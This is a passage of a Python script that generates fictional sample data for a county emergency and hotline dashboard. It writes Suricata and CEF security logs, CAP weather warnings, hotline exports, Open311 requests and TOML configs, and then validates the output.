    # dns lines
    names = ["zwfw.yunling.example", "www.ylrm.example", "time.yunling.example", "mirrors.example.org",
             "pool.miner-sample.to", "update.example.com"]
    for _ in range(30):
        t = rand_time(diurnal=False).replace(microsecond=rng.randrange(1_000_000))
        flow_id += rng.randrange(10_000_000, 90_000_000)
        ev = {"timestamp": eve_ts(t), "flow_id": flow_id, "in_iface": "ens2f1", "event_type": "dns",
              "src_ip": f"10.99.40.{rng.randrange(2, 250)}", "src_port": rng.randrange(32768, 61000),
              "dest_ip": "10.99.0.53", "dest_port": 53, "proto": "UDP",
              "dns": {"type": "query", "id": rng.randrange(1, 65535), "rrname": rng.choice(names),
                      "rrtype": rng.choice(("A", "A", "AAAA")), "tx_id": 0}}
        out.append((t, ev))
    # flow lines
    for _ in range(16):
        t = rand_time(diurnal=False).replace(microsecond=rng.randrange(1_000_000))
        flow_id += rng.randrange(10_000_000, 90_000_000)
        age = rng.randrange(0, 120)
        ev = {"timestamp": eve_ts(t), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": "flow",
              "src_ip": ext_ip(), "src_port": rng.randrange(32768, 61000), "dest_ip": "10.99.10.11",
              "dest_port": 443, "proto": "TCP", "app_proto": "tls",
              "flow": {"pkts_toserver": rng.randrange(3, 40), "pkts_toclient": rng.randrange(3, 60),
                       "bytes_toserver": rng.randrange(400, 9000), "bytes_toclient": rng.randrange(1000, 90000),
                       "start": eve_ts(t - timedelta(seconds=age)), "end": eve_ts(t), "age": age,
                       "state": "closed", "reason": "timeout", "alerted": False},
              "tcp": {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True, "fin": True,
                      "psh": True, "ack": True, "state": "closed"}}
        out.append((t, ev))
    # stats every 18 hours
    for k in range(4):
        t = START + timedelta(hours=18 * k + 17, seconds=rng.randrange(60))
        up = int((t - START).total_seconds()) + 86400 * 11
        pk = up * rng.randrange(900, 1400)
        ev = {"timestamp": eve_ts(t), "event_type": "stats",
              "stats": {"uptime": up,
                        "capture": {"kernel_packets": pk, "kernel_drops": pk // 50000},
                        "decoder": {"pkts": pk, "bytes": pk * 612, "ipv4": pk - pk // 40, "ipv6": pk // 40,
                                    "tcp": pk * 8 // 10, "udp": pk * 19 // 100},
                        "flow": {"tcp": up * 21, "udp": up * 9, "icmpv4": up // 3},
                        "detect": {"alert": up // 40}}}
        out.append((t, ev))
    out.sort(key=lambda x: x[0])
    return "".join(json.dumps(ev, ensure_ascii=False, separators=(",", ":")) + "\n" for _, ev in out)


def cef_escape_header(s: str) -> str:
    return s.replace("\\", "\\\\").replace("|", "\\|")


def cef_escape_ext(s: str) -> str:
    return s.replace("\\", "\\\\").replace("=", "\\=").replace("\n", "\\n")


FW_RULES = {9100101: "DoS-Protect-Portal", 9100207: "Scan-Detect", 9100315: "RDP-Bruteforce", 9100420: "Geo-Block"}
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def build_syslog_cef(alerts):
    lines = []
    fw = [a for a in alerts if a["sensor"] == "fw-edge-01"]
    waf = [a for a in alerts if a["sensor"] == "waf-portal-01"]
    chosen = rng.sample(fw, 70) + rng.sample(waf, 60)
    chosen.sort(key=lambda r: r["at"])
    seq = 48_210
    for i, a in enumerate(chosen):
        t = datetime.fromisoformat(a["at"])
        sig, cat, sev, level, proto, _ = SIGS[a["signature_id"]]
        src_ip, _ = split_hp(a["src"])
        dest_ip, dest_port = split_hp(a["dest"])
        spt = rng.randrange(32768, 61000)
        rt = int(t.timestamp() * 1000)
        seq += rng.randrange(1, 40)
        if a["sensor"] == "fw-edge-01":
            cef_sev = {1: "9", 2: "7", 3: "5", 4: "3"}[level]
            act = "deny" if a["action"] == "blocked" else "permit"
            ext = (f"rt={rt} src={src_ip} spt={spt} dst={dest_ip} dpt={dest_port} proto={proto} act={act} "
                   f"cs1Label=RuleName cs1={cef_escape_ext(FW_RULES[a['signature_id']])} "
                   f"cs2Label=Zone cs2=untrust-to-dmz deviceInboundInterface=ethernet1/1 "
                   f"cnt={rng.randrange(1, 40)} msg={cef_escape_ext(sig)}")
            header = (f"CEF:0|Sample Networks|NGFW-3000|5.5R9|{a['signature_id']}|"
                      f"{cef_escape_header(sig)}|{cef_sev}|")
            host, app = "fw-edge-01", "NGFW"
        else:
            cef_sev = {1: "Very-High", 2: "High", 3: "Medium", 4: "Low"}[level]
            url = URLS.get(a["signature_id"], "/")
            ext = (f"rt={rt} src={src_ip} spt={spt} dst={dest_ip} dpt={dest_port} proto={proto} "
                   f"act={'block' if a['action'] == 'blocked' else 'alert'} requestMethod=GET "
                   f"request={cef_escape_ext('https://' + HOSTS.get(a.get('asset', ''), dest_ip) + url)} "
                   f"cat={cef_escape_ext(cat)} cs1Label=Policy cs1={cef_escape_ext('政务门户防护策略')} "
                   f"cs2Label=Asset cs2={cef_escape_ext(a.get('asset', ''))} "
                   f"requestClientApplication={cef_escape_ext(ua_for(a['signature_id']))}")
            header = (f"CEF:0|Sample Networks|WAF-1200|3.0.2|{a['signature_id']}|"
                      f"{cef_escape_header(sig)}|{cef_sev}|")
            host, app = "waf-portal-01", "WAF"
        payload = header + ext
        pri = 8 * 16 + {1: 1, 2: 2, 3: 4, 4: 5}[level]       # facility local0, severity from level
        if i % 3 == 2:        # RFC 3164: local time, no year, no zone
            stamp = f"{MONTHS[t.month - 1]} {t.day:2d} {t.strftime('%H:%M:%S')}"
            lines.append(f"<{pri}>{stamp} {host} {app}[{1200 + (seq % 7)}]: {payload}")
        else:                 # RFC 5424
            stamp = iso_ms(t)
            sd = f'[meta@32473 seq="{seq}"]'
            lines.append(f"<{pri}>1 {stamp} {host}.yunling.example {app} - CEF {sd} {payload}")
    return "\n".join(lines) + "\n"


def ring_to_cap(ring) -> str:
    # CAP polygon: "lat,lon lat,lon ..." with the first and last pair equal.
    return " ".join(f"{lat:.4f},{lon:.4f}" for lon, lat in ring)


def coarse_ring(ring, keep=16):
    step = max(1, (len(ring) - 1) // keep)
    pts = ring[:-1][::step]
    return pts + [pts[0]]


CAP_SENDER = "qxj@yunling.example"


def cap_doc(ident, sent, msg_type, refs, info, area_desc, ring):
    refs_xml = f"  <references>{xml_escape(refs)}</references>\n" if refs else ""
    params = "".join(
        f"    <parameter>\n      <valueName>{xml_escape(k)}</valueName>\n      <value>{xml_escape(v)}</value>\n"
        f"    </parameter>\n" for k, v in info["parameters"])
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">\n'
        f"  <identifier>{ident}</identifier>\n"
        f"  <sender>{CAP_SENDER}</sender>\n"
        f"  <sent>{iso(sent)}</sent>\n"
        "  <status>Actual</status>\n"
        f"  <msgType>{msg_type}</msgType>\n"
        "  <scope>Public</scope>\n"
        f"{refs_xml}"
        "  <info>\n"
        "    <language>zh-CN</language>\n"
        "    <category>Met</category>\n"
        f"    <event>{xml_escape(info['event'])}</event>\n"
        f"    <responseType>{info['response']}</responseType>\n"
        f"    <urgency>{info['urgency']}</urgency>\n"
        f"    <severity>{info['severity']}</severity>\n"
        f"    <certainty>{info['certainty']}</certainty>\n"
        "    <eventCode>\n      <valueName>CMA_WARNING_TYPE</valueName>\n"
        f"      <value>{info['code']}</value>\n    </eventCode>\n"
        f"    <effective>{iso(info['effective'])}</effective>\n"
        f"    <expires>{iso(info['expires'])}</expires>\n"
        "    <senderName>云岭县气象局</senderName>\n"
        f"    <headline>{xml_escape(info['headline'])}</headline>\n"
        f"    <description>{xml_escape(info['description'])}</description>\n"
        f"    <instruction>{xml_escape(info['instruction'])}</instruction>\n"
        "    <contact>云岭县气象台 值班电话 12121</contact>\n"
        f"{params}"
        "    <area>\n"
        f"      <areaDesc>{xml_escape(area_desc)}</areaDesc>\n"
        f"      <polygon>{ring_to_cap(ring)}</polygon>\n"
        "      <geocode>\n        <valueName>ADCODE</valueName>\n"
        f"        <value>{COUNTY_CODE}</value>\n      </geocode>\n"
        "    </area>\n"
        "  </info>\n"
        "</alert>\n")


def build_cap(county_ring, township_rings):
    docs = {}
    c = coarse_ring(county_ring, 20)
    def ident(t, kind):
        return f"YLQX-990102-{t.strftime('%Y%m%d%H%M')}-{kind}"

    fire_t = datetime(2026, 11, 19, 9, 0, tzinfo=TZ)
    fire_id = ident(fire_t, "SLHX")
    docs["01-senlin-huoxian-orange.xml"] = cap_doc(fire_id, fire_t, "Alert", None, {
        "event": "森林火险", "response": "Prepare", "urgency": "Expected", "severity": "Severe",
        "certainty": "Likely", "code": "11B17", "effective": fire_t, "expires": fire_t + timedelta(hours=48),
        "headline": "云岭县气象局发布森林火险橙色预警",
        "description": "受持续晴好天气影响，未来48小时我县大部地区空气湿度低、风力较大，森林火险气象等级高，"
                       "青石镇、龙泉镇林区森林火险等级达4级（高度危险）。",
        "instruction": "严格管控野外用火，加强林区巡护，发现火情立即拨打12119报告。",
        "parameters": [("预警级别", "橙色"), ("预警类型", "森林火险")]}, "云岭县青石镇、龙泉镇", c)

    wind_t = datetime(2026, 11, 20, 10, 30, tzinfo=TZ)
    wind_id = ident(wind_t, "DF")
    wind_info = {
        "event": "大风", "response": "Prepare", "urgency": "Expected", "severity": "Minor", "certainty": "Likely",
        "code": "11B06", "effective": wind_t, "expires": wind_t + timedelta(hours=24),
        "headline": "云岭县气象局发布大风蓝色预警",
        "description": "预计未来24小时内我县城关镇、河口乡、白沙乡将出现6级以上、阵风7—8级的偏西大风，请注意防范。",
        "instruction": "加固围板、棚架、广告牌等易被风吹动的搭建物；行人注意尽量少骑自行车，刮风时不要在广告牌、临时搭建物等下面逗留；注意森林防火。",
        "parameters": [("预警级别", "蓝色"), ("预警类型", "大风")]}
    docs["02-dafeng-blue.xml"] = cap_doc(wind_id, wind_t, "Alert", None, wind_info, "云岭县城关镇、河口乡、白沙乡", c)

    cancel_t = datetime(2026, 11, 20, 21, 40, tzinfo=TZ)
    cancel_info = dict(wind_info, response="AllClear", urgency="Past", certainty="Observed",
                       effective=cancel_t, expires=cancel_t + timedelta(hours=1),
                       headline="云岭县气象局解除大风蓝色预警",
                       description="受冷空气影响的大风过程已基本结束，我县风力已减弱至4级以下，解除大风蓝色预警。",
                       instruction="各地可恢复正常生产生活。")
    docs["03-dafeng-blue-cancel.xml"] = cap_doc(ident(cancel_t, "DF-JC"), cancel_t, "Cancel",
                                                f"{CAP_SENDER},{wind_id},{iso(wind_t)}", cancel_info,
                                                "云岭县城关镇、河口乡、白沙乡", c)

    rain_t = datetime(2026, 11, 21, 15, 0, tzinfo=TZ)
    rain_id = ident(rain_t, "BY")
    rain_info = {
        "event": "暴雨", "response": "Prepare", "urgency": "Expected", "severity": "Moderate", "certainty": "Likely",
        "code": "11B03", "effective": rain_t, "expires": rain_t + timedelta(hours=24),
        "headline": "云岭县气象局发布暴雨黄色预警",
        "description": "受南支槽和冷空气共同影响，预计21日夜间至22日白天我县将出现暴雨，局地大暴雨，"
                       "6小时降雨量可达50毫米以上，并伴有短时强降水和雷电，山区易发山洪、泥石流、滑坡等地质灾害。",
        "instruction": "政府及相关部门按照职责做好防暴雨工作；切断低洼危险地带户外电源，暂停在空旷地方的户外作业；"
                       "地质灾害隐患点群众及时转移。",
        "parameters": [("预警级别", "黄色"), ("预警类型", "暴雨")]}
    docs["04-baoyu-yellow.xml"] = cap_doc(rain_id, rain_t, "Alert", None, rain_info, "云岭县全境", c)

    upd_t = datetime(2026, 11, 21, 23, 20, tzinfo=TZ)
    # The update narrows the area to the two southern/western townships (white sand, river mouth).
    upd_ring = coarse_ring(union_ring([township_rings["白沙乡"], township_rings["河口乡"]]), 16)
    upd_info = dict(rain_info, severity="Severe", urgency="Immediate", certainty="Observed", response="Evacuate",
                    code="11B03", effective=upd_t, expires=upd_t + timedelta(hours=12),
                    headline="云岭县气象局将暴雨黄色预警升级为暴雨橙色预警",
                    description="过去3小时白沙乡、河口乡已出现50毫米以上降雨，白沙乡新寨站3小时降雨量达78.6毫米，"
                                "预计未来6小时上述地区降雨仍将持续，累计雨量可达100毫米以上。",
                    instruction="停止户外作业和集会；山洪、泥石流、滑坡隐患点及低洼地区群众立即转移到安全地带；"
                                "驾驶人员注意道路积水和交通阻断。",
                    parameters=[("预警级别", "橙色"), ("预警类型", "暴雨"), ("原预警", "暴雨黄色预警")])
    docs["05-baoyu-orange-update.xml"] = cap_doc(ident(upd_t, "BY-SJ"), upd_t, "Update",
                                                 f"{CAP_SENDER},{rain_id},{iso(rain_t)}", upd_info,
                                                 "云岭县白沙乡、河口乡", upd_ring)
    return docs


def build_csv(grids):
    rows = []
    per_day: dict[str, int] = {}
    cases = []
    for _ in range(60):
        t = rand_time()
        d = t.strftime("%Y%m%d")
        per_day[d] = per_day.get(d, 0) + 1
        cases.append((t, hotline_case(grids, t, 0)))
    cases.sort(key=lambda x: x[0])
    per_day = {}
    special = {7: "含英文逗号, 引号和换行", 19: "quote", 33: "newline"}
    for i, (t, c) in enumerate(cases):
        d = t.strftime("%Y%m%d")
        per_day[d] = per_day.get(d, 0) + 1
        g = next(x for x in grids if x["id"] == c["grid_id"])
        summary = c["summary"]
        if i == 7:
            summary = summary + " 补充: 上周已经打过一次, 工单号记不清了。"
        elif i == 19:
            summary = "来电人说：\"师傅讲马上来修，到现在也没来。\"" + summary
        elif i == 33:
            summary = summary + "\n（来电人要求书面答复）"
        due = add_workdays(t, HANDLE_DAYS[c["type"]])
        sat = c.get("satisfaction")
        rows.append([
            f"YL{d}{60000 + per_day[d]:05d}", t.strftime("%Y-%m-%d %H:%M:%S"), c["caller"], c["phone"],
            TYPE_ZH[c["type"]], c["category"], summary, place_of(g), c["department"], STATUS_ZH[c["status"]],
            due.strftime("%Y-%m-%d %H:%M:%S"), c.get("callback_result", ""), SATISFACTION_ZH.get(sat, "") if sat else "",
        ])
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["工单编号", "来电时间", "来电人", "联系电话", "诉求类型", "问题分类", "诉求内容", "所属区域", "承办单位",
                "办理状态", "办结时限", "回访结果", "满意度"])
    w.writerows(rows)
    return buf.getvalue()


def build_open311(grids):
    services = [
        ("YL-CG-001", "路灯损坏", "县城市管理综合执法局", "{p}{road}有3盏路灯不亮，晚上路面很黑。"),
        ("YL-CG-004", "井盖缺失或破损", "县城市管理综合执法局", "{road}人行道井盖破损，已经有人崴脚。"),
        ("YL-HB-002", "噪声扰民", "县生态环境分局", "{p}夜间施工噪声扰民，晚上11点以后还在打桩。"),
        ("YL-GS-001", "停水", "县自来水公司", "{p}整栋楼停水，没有看到停水通知。"),
        ("YL-JT-003", "道路积水", "县交通运输局", "{road}下穿通道积水约40厘米，车辆无法通行。"),
        ("YL-CG-007", "垃圾清运不及时", "县城市管理综合执法局", "{p}垃圾收集点两天没有清运。"),
    ]
    out = []
    for k in range(8):
        code, name, agency, tmpl = services[k % len(services)]
        g = pick_grid(grids, 0.7)
        t = rand_time(START + timedelta(hours=6), END - timedelta(hours=2))
        lon, lat = g["centroid"]
        closed = k % 3 == 0
        upd = t + timedelta(minutes=rng.randrange(20, 600))
        if upd >= END:
            upd = END - timedelta(minutes=5)
        req = {
            "service_request_id": f"YL311-{t.strftime('%y%m%d')}-{100 + k}",
            "status": "closed" if closed else "open",
            "status_notes": "已派单至承办单位并处理完毕" if closed else "已受理，正在派单",
            "service_name": name, "service_code": code, "description": fill(tmpl, g),
            "agency_responsible": agency, "service_notice": "一般诉求5个工作日内办结",
            "requested_datetime": iso(t), "updated_datetime": iso(upd),
            "expected_datetime": iso(add_workdays(t, 5)),
            "address": f"{COUNTY_NAME}{location_of(g)}", "address_id": g["id"], "zipcode": "",
            "lat": round(lat + rng.uniform(-0.004, 0.004), 6), "long": round(lon + rng.uniform(-0.004, 0.004), 6),
            "media_url": "",
        }
        out.append(req)
    out.sort(key=lambda r: r["requested_datetime"])
    return json.dumps(out, ensure_ascii=False, indent=2) + "\n"


# ----------------------------------------------------------------------------------------------
# 8. TOML and README

CALENDAR_TOML = """# 2026 working-day calendar for the SLA clock (全国年节及纪念日放假调休, mainland China).
# Source: 国务院办公厅关于2026年部分节假日安排的通知 (国办发明电〔2025〕7号, published 2025-11).
#   元旦   1月1日—3日放假调休共3天；1月4日（周日）上班。
#   春节   2月15日（腊月廿八）—23日放假调休共9天；2月14日（周六）、2月28日（周六）上班。
#   清明节 4月4日—6日放假共3天。
#   劳动节 5月1日—5日放假调休共5天；5月9日（周六）上班。
#   端午节 6月19日—21日放假共3天。
#   中秋节 9月25日—27日放假共3天。
#   国庆节 10月1日—7日放假调休共7天；9月20日（周日）、10月10日（周六）上班。
# Rule: a day is a working day if it is listed in `workdays`, or if it is Monday–Friday and not listed in
# `holidays`. `holidays` lists every day off of each holiday period (weekend days included, harmlessly);
# `workdays` lists the weekend days that are worked instead (调休上班).
# Verify against the official notice before relying on it for real deadlines.
year = 2026
holidays = [
"""


def calendar_toml() -> str:
    s = CALENDAR_TOML
    groups = [("元旦", HOLIDAYS_2026[0:3]), ("春节", HOLIDAYS_2026[3:12]), ("清明节", HOLIDAYS_2026[12:15]),
              ("劳动节", HOLIDAYS_2026[15:20]), ("端午节", HOLIDAYS_2026[20:23]), ("中秋节", HOLIDAYS_2026[23:26]),
              ("国庆节", HOLIDAYS_2026[26:33])]
    for name, days in groups:
        s += "  " + ", ".join(f'"{d}"' for d in days) + f",  # {name}\n"
    s += "]\nworkdays = [\n"
    notes = {"2026-01-04": "元旦", "2026-02-14": "春节", "2026-02-28": "春节", "2026-05-09": "劳动节",
             "2026-09-20": "国庆节", "2026-10-10": "国庆节"}
    for d in WORKDAYS_2026:
        s += f'  "{d}",  # {notes[d]}调休上班\n'
    s += "]\n"
    return s


SLA_TOML = """# Service levels for Watchfloor (sample county 云岭县). Working days follow calendar-2026.toml.

[hotline]
# A ticket is near-due when its current stage deadline is this many hours away or less.
near_due_hours = 8

[hotline.stage]
# Working days allowed for each stage: 受理 (received -> accepted), 转办 (accepted -> transferred),
# 回访 (replied -> callback_done).
accept = 1
transfer = 1
callback = 2

[hotline.handle]
# Working days from receipt to a reply (办结时限), by 诉求类型.
inquiry = 1      # 咨询
help = 3         # 求助
complaint = 5    # 投诉
report = 5       # 举报
suggestion = 10  # 建议
praise = 1       # 感谢
other = 5        # 其他

[incident.escalate_after_minutes]
# An unacknowledged incident escalates after this many minutes, by level (Ⅰ..Ⅳ).
"1" = 2
"2" = 5
"3" = 15
"4" = 30

[alert.correlation]
# Open a cyber_security incident when at least min_count alerts of level <= max_level hit one asset
# within window_minutes.
min_count = 20
max_level = 2
window_minutes = 10
"""


def readme(stats) -> str:
    return f"""# sampledata — 云岭县 (fictional)

Everything here is **fictional**: the county 云岭县 (code `990102`; real administrative codes never start with
`99`), its townships, villages, grids and grid workers, every person, phone number, ticket, incident and alert.
Phone numbers are random 11-digit strings and are not meant to reach anyone. Attacker addresses are taken only
from the documentation ranges `192.0.2.0/24`, `198.51.100.0/24` and `203.0.113.0/24`; internal hosts are
`10.99.x.x`; host names end in `.example`.

The data window is the 72 hours ending **2026-11-22T08:00:00+08:00** (a Sunday morning); all times are +08:00.

Regenerate (Python 3.11, standard library only, fixed seed — byte-identical output):

    python3 scripts/gen-sampledata.py          # writes sampledata/ and validates it
    python3 scripts/gen-sampledata.py --check  # only validates

## Native JSON Lines (docs/native-format.md)

| file | records | what |
|---|---|---|
| `county.jsonl` | {stats['grid']} `grid` | 1 county, {stats['township']} townships, {stats['village']} villages/communities, {stats['grid15']} grids with 网格员, phone and households. Every level carries a GeoJSON `Polygon` (lon/lat, counter-clockwise). Grids come from a jittered 8×6 lattice (≈5×5 km cells, county ≈40×30 km around 102.5°E 25.0°N); neighbours share identical vertex coordinates, and each village/township/county polygon is the exact union outline of its children, so the levels tile without gaps or overlaps. |
| `incidents.jsonl` | {stats['incident']} `incident` | all 8 categories and levels Ⅰ–Ⅳ (Ⅰ {stats['lv'][1]}, Ⅱ {stats['lv'][2]}, Ⅲ {stats['lv'][3]}, Ⅳ {stats['lv'][4]}). Older ones are mostly resolved/closed with consistent `acked_by` (operator login), `acked_at`, `assignee` (the unit it was dispatched to), `dispatched_at`, `resolved_at`, `closed_at`; the last 12 h are mostly new/acknowledged/dispatched, with open Ⅰ/Ⅱ (泥石流, 水位超警, 三车相撞…). Operators: 王伟 wangwei, 李娜 lina, 张敏 zhangmin, 刘洋 liuyang, 陈静 chenjing. |
| `hotline.jsonl` | {stats['hotline']} `hotline` | 12345 tickets of every type, channel and status (incl. `returned`, with an extra `return_reason`), consistent stage times. Relative to the window end: {stats['overdue']} are past their 办结时限 without a reply, and {stats['near']} fall due within the first {NEAR_DUE_HOURS} working hours after it (Monday 23 before 08:00 — the window ends on a weekend, so near-due is measured in working time). |
| `alerts.jsonl` | {stats['alert']} `alert` | raw observations from `ids-dmz-01`, `waf-portal-01`, `ids-core-01`, `fw-edge-01`; {stats['dedup']} distinct dedup keys (sensor + signature id + src + dest), so the store aggregates heavily. Attackers' `src` is a bare IP (ephemeral ports dropped), `dest` is `ip:port`. Includes a burst of {stats['burst']} level-1/2 WAF alerts on 县政务服务网 from 203.0.113.45 within 10 minutes on 2026-11-21 from 14:02 (the correlation rule fires; the matching incident is in `incidents.jsonl`). |

## Feeds in real formats (`feeds/`), for replay through the daemon's decoders

| file | what |
|---|---|
| `eve.json` | Suricata EVE JSON lines: {stats['eve_alert']} `alert` (with `http`/`flow` sub-objects), {stats['eve_dns']} `dns`, {stats['eve_flow']} `flow`, {stats['eve_stats']} `stats`. EVE severity 1/2/3. |
| `syslog-cef.log` | {stats['cef']} syslog lines, RFC 5424 (with structured data) and RFC 3164 (local time, no year), each carrying CEF:0 from a firewall (`NGFW-3000`, numeric severity 0–10) or a WAF (`WAF-1200`, Low/Medium/High/Very-High). Extension values escape `=` and the backslash. |
| `cap/*.xml` | CAP 1.2 from 云岭县气象局, zh-CN, with county polygons: 森林火险橙色, 大风蓝色 + its `Cancel`, 暴雨黄色 + an `Update` (upgraded to 橙色, narrowed to 白沙乡/河口乡); `references` name the earlier identifiers. |
| `12345-export.csv` | a 12345 platform export, UTF-8 with BOM, CRLF, {stats['csv']} rows, headers 工单编号,来电时间,来电人,联系电话,诉求类型,问题分类,诉求内容,所属区域,承办单位,办理状态,办结时限,回访结果,满意度. Times have no offset (local +08:00). A few cells contain ASCII commas, double quotes and a newline (quoted per RFC 4180). |
| `open311.json` | {stats['open311']} GeoReport v2 service requests (JSON list). |
| `opinion/` | 网络舆情, written by `scripts/gen-opinion-sampledata.py` (own seed): `posts.jsonl` 429 native `post` records over the same 72 hours — ~15 stories (a 石门水库决堤 rumour answered by a 云岭发布 clarification after which it stops, a school-canteen illness, wage arrears, a landslide, a gas explosion …) told with near-duplicates, `repost_of` reposts, //@ chains and paraphrases, plus noise that matches no watch-word; `yunling-news.rss` an RSS 2.0 feed of the county media centre (HTML descriptions, a script and a style to be dropped); `monitor-export.posts.csv` a monitoring service's export (UTF-8 with BOM, 万 counts). URLs use `.example`. |

## Configuration

- `calendar-2026.toml` — 2026 public holidays and make-up working days (调休), per the State Council notice
  (source in the file's comment).
- `sla.toml` — hotline stage and handling deadlines in working days, near-due threshold, incident escalation
  minutes per level, the alert correlation rule.
"""


# ----------------------------------------------------------------------------------------------
# 9. Validation

INC_CATS = {"public_safety", "production_safety", "public_health", "natural_disaster", "dispute", "public_opinion",
            "cyber_security", "other"}
INC_STATUS = ["new", "acknowledged", "dispatched", "resolved", "closed"]
H_TYPES = set(HANDLE_DAYS)
H_STATUS = {"new", "accepted", "transferred", "replied", "callback_done", "closed", "returned"}
H_CHANNELS = {"phone", "web", "wechat", "app"}
SATIS = {"satisfied", "basically_satisfied", "dissatisfied"}
DOC_NETS = ("192.0.2.", "198.51.100.", "203.0.113.", "10.99.")


def segs_intersect(p1, p2, p3, p4):
    def orient(a, b, c):
        v = (b[0] - a[0]) * (c[1] - a[1]) - (b[1] - a[1]) * (c[0] - a[0])
        return (v > 0) - (v < 0)
    o1, o2, o3, o4 = orient(p1, p2, p3), orient(p1, p2, p4), orient(p3, p4, p1), orient(p3, p4, p2)
    return o1 != o2 and o3 != o4 and 0 not in (o1, o2, o3, o4)


def ring_is_simple(ring) -> bool:
    segs = list(zip(ring, ring[1:]))
    n = len(segs)
    for i in range(n):
        for j in range(i + 2, n):
            if i == 0 and j == n - 1:
                continue
            if segs_intersect(*segs[i], *segs[j]):
                return False
    pts = ring[:-1]
    return len(set(pts)) == len(pts)


def load_jsonl(rel):
    with open(os.path.join(ROOT, rel), encoding="utf-8") as f:
        return [json.loads(line) for line in f]


def validate() -> None:
    errors = []

    def check(cond, msg):
        if not cond:
            errors.append(msg)

    def T(s):
        t = datetime.fromisoformat(s)
        check(t.utcoffset() == timedelta(hours=8), f"time not +08:00: {s}")
        return t

    # --- grids
    grids = load_jsonl("county.jsonl")
    by_id = {g["id"]: g for g in grids}
    check(len(by_id) == len(grids), "duplicate grid ids")
    levels = {6: "county", 9: "township", 12: "village", 15: "grid"}
    for g in grids:
        check(g["kind"] == "grid", "kind")
        check(g["id"].startswith("99") and g["id"].isdigit() and len(g["id"]) in levels, f"bad id {g['id']}")
        check(g.get("level") == levels[len(g["id"])], f"level of {g['id']}")
        if len(g["id"]) > 6:
            check(g.get("parent") == g["id"][:len(g["id"]) - 3] and g["parent"] in by_id, f"parent of {g['id']}")
        geom = g.get("geometry")
        check(geom and geom["type"] == "Polygon", f"geometry of {g['id']}")
        ring = [tuple(p) for p in geom["coordinates"][0]]
        check(ring[0] == ring[-1] and len(ring) >= 4, f"ring of {g['id']} not closed")
        check(ring_area(ring) > 0, f"ring of {g['id']} not counter-clockwise")
        check(ring_is_simple(ring), f"ring of {g['id']} self-intersects")
        for lon, lat in ring:
            check(102.2 < lon < 102.8 and 24.8 < lat < 25.2, f"coordinate out of area in {g['id']}")
    leaf = [g for g in grids if len(g["id"]) == 15]
    check(len(leaf) >= 40, "fewer than 40 grids")
    check(sum(1 for g in grids if len(g["id"]) == 9) >= 4, "fewer than 4 townships")
    for g in leaf:
        check(g.get("worker") and g.get("worker_phone") and 350 <= g.get("households", 0) <= 650,
              f"grid details of {g['id']}")
    # children tile their parent: exact outline equality + areas
    for pid, parent in by_id.items():
        kids = [g for g in grids if g.get("parent") == pid]
        if not kids:
            check(len(pid) == 15, f"{pid} has no children")
            continue
        rings = [[tuple(p) for p in k["geometry"]["coordinates"][0]] for k in kids]
        try:
            u = union_ring(rings)
        except AssertionError as e:
            errors.append(f"children of {pid}: {e}")
            continue
        pring = [tuple(p) for p in parent["geometry"]["coordinates"][0]]
        check(set(u[:-1]) == set(pring[:-1]) and len(u) == len(pring), f"{pid} is not the union of its children")
        area = sum(ring_area(r) for r in rings)
        check(abs(area - ring_area(pring)) < 1e-9 * max(1.0, abs(area)), f"area mismatch under {pid}")
    grid_ids = {g["id"] for g in leaf}

    # --- incidents
    incs = load_jsonl("incidents.jsonl")
    check(len(incs) >= 200, "fewer than 200 incidents")
    check({i["category"] for i in incs} == INC_CATS, "not every category present")
    check({i["level"] for i in incs} == {1, 2, 3, 4}, "not every level present")
    lv = {k: sum(1 for i in incs if i["level"] == k) for k in (1, 2, 3, 4)}
    check(lv[1] < lv[2] < lv[3] < lv[4], f"level distribution not realistic: {lv}")
    ops = {login for _, login in OPERATORS}
    ids = set()
    for i in incs:
        check(i["kind"] == "incident" and i["id"] not in ids, f"incident id {i['id']}")
        ids.add(i["id"])
        for f in ("source", "category", "level", "title", "reported_at"):
            check(f in i, f"incident {i['id']} lacks {f}")
        check(i["grid_id"] in grid_ids, f"incident {i['id']} grid {i['grid_id']}")
        check(i["status"] in INC_STATUS, f"incident status {i['status']}")
        t0 = T(i["reported_at"])
        check(START <= t0 <= END, f"incident {i['id']} outside window")
        k = INC_STATUS.index(i["status"])
        prev = t0
        for st, field in [("acknowledged", "acked_at"), ("dispatched", "dispatched_at"), ("resolved", "resolved_at"),
                          ("closed", "closed_at")]:
            reached = INC_STATUS.index(st) <= k
            check((field in i) == reached, f"incident {i['id']} {field} vs status {i['status']}")
            if field in i:
                t = T(i[field])
                check(prev <= t <= END, f"incident {i['id']} {field} out of order")
                prev = t
        check(("acked_by" in i) == ("acked_at" in i) and i.get("acked_by", "wangwei") in ops,
              f"incident {i['id']} acked_by")
        check(("assignee" in i) == ("dispatched_at" in i), f"incident {i['id']} assignee")
    pairs = [(i["source"], i["source_ref"]) for i in incs]
    check(len(set(pairs)) == len(pairs), "duplicate (source, source_ref)")
    recent = [i for i in incs if END - T(i["reported_at"]) <= timedelta(hours=12)]
    check(sum(i["status"] in ("new", "acknowledged", "dispatched") for i in recent) > 0.7 * len(recent),
          "recent incidents not mostly open")
    old = [i for i in incs if END - T(i["reported_at"]) > timedelta(hours=12)]
    check(sum(i["status"] in ("resolved", "closed") for i in old) > 0.7 * len(old), "old incidents not mostly done")
    check(any(i["level"] <= 2 and i["status"] in ("new", "acknowledged", "dispatched") for i in recent),
          "no open Ⅰ/Ⅱ")

    # --- hotline
    hot = load_jsonl("hotline.jsonl")
    check(len(hot) >= 300, "fewer than 300 hotline cases")
    check({h["type"] for h in hot} == H_TYPES, "not every hotline type present")
    check({h["channel"] for h in hot} == H_CHANNELS, "not every channel present")
    check({h["status"] for h in hot} == H_STATUS, "not every hotline status present")
    check(len({h["ticket"] for h in hot}) == len(hot), "duplicate tickets")
    order = ["accepted_at", "transferred_at", "replied_at", "callback_at", "closed_at"]
    need = {"new": 0, "accepted": 1, "transferred": 2, "returned": 2, "replied": 3, "callback_done": 4, "closed": 5}
    for h in hot:
        for f in ("ticket", "received_at", "type", "summary"):
            check(f in h, f"hotline {h.get('ticket')} lacks {f}")
